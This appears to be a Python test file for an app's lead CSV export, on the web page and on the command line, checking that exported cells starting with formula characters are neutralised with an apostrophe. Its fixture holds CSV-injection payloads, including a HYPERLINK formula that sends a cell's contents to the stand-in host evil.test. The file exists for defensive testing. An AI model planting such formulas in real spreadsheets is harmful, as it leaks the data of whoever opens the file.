"""Leads leave as a CSV file a spreadsheet opens safely: a lead file's `=HYPERLINK(...)` in a
company name is shown, never run (the Leads page's Export CSV, `leads list --csv`)."""

from __future__ import annotations

import csv
import io

from replyguard.domain.leads_csv import read_leads
from replyguard.service_layer.workspace.leads import import_leads
from tests.support.cli import clean_env, run_cli
from tests.web.conftest import Site
from tests.web.support import signed_in

HOSTILE = (
    b"email,first_name,last_name,company\n"
    b'ada@one.test,Ada,Lovelace,"=HYPERLINK(""http://evil.test/?x=""&A1,""Open"")"\n'
    b"bo@one.test,+1 555,-Bo,@SUM(1+1)\n"
    b'cy@one.test,Cy,Plain,"  =1+1"\n'
)


def _import(site: Site) -> None:
    with site.alpha.app.uow() as uow:
        report = import_leads(uow, "Atlas", list(read_leads(HOSTILE)))
        uow.commit()
    assert (report.created, report.errors) == (3, []), report
    with site.bravo.app.uow() as uow:  # another workspace's lead never leaves with ours
        import_leads(uow, "Bravo product", list(read_leads(b"email\nzed@bravo.test\n")))
        uow.commit()


def test_the_leads_page_exports_a_formula_safe_csv_of_its_own_workspace(site: Site) -> None:
    _import(site)
    with signed_in(site.base, site.alpha.email) as (page, _csrf):
        assert 'href="/leads/export.csv"' in page.get("/leads").text
        exported = page.get("/leads/export.csv")
        replied_only = page.get("/leads/export.csv", params={"state": "replied"})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    assert "attachment" in exported.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    by_email = {row["email"]: row for row in rows}
    assert set(by_email) == {"ada@one.test", "bo@one.test", "cy@one.test"}
    assert by_email["ada@one.test"]["company"] == """'=HYPERLINK("http://evil.test/?x="&A1,"Open")"""
    assert by_email["bo@one.test"]["name"].startswith("'+1 555")
    assert by_email["bo@one.test"]["company"] == "'@SUM(1+1)"
    assert by_email["cy@one.test"]["company"] == "'=1+1"  # the import trimmed the spaces
    assert {row["product"] for row in rows} == {"Atlas"} and rows[0]["reply_state"] == "active"
    assert list(csv.DictReader(io.StringIO(replied_only.text))) == []


def test_leads_list_csv_is_the_same_file_on_the_command_line(site: Site, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _import(site)
    url = site.alpha.app.engine.url.render_as_string(hide_password=False)
    ran = run_cli(("leads", "list", "--csv"), env=clean_env(REPLYGUARD_DATABASE_URL=url), cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    rows = list(csv.DictReader(io.StringIO(ran.stdout)))
    assert {r["email"]: r["company"] for r in rows}["bo@one.test"] == "'@SUM(1+1)"
